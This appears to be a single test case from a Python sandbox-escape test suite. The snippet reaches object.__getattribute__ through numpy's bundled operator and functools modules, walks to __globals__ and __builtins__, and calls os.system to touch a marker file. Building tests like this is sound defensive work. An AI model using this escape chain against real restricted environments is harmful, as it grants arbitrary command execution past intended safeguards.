# attempts: object.__getattribute__ (from ().__class__.__base__) and functools.reduce walk to __globals__; vars(os)['system'] runs the command
# effect: exec
# step: attribute access without getattr
ga = np.ma.core.operator.attrgetter('__class__.__base__.__getattribute__')(())     # object.__getattribute__
reduce = np.ma.core.functools.reduce
g = reduce(ga, ['__globals__'], get_point_in_env)
bi = g['__builtins__']
osm = bi['__import__']('os')
bi['vars'](osm)['system']('touch @@MARKER_DIR@@/getattribute_vars')
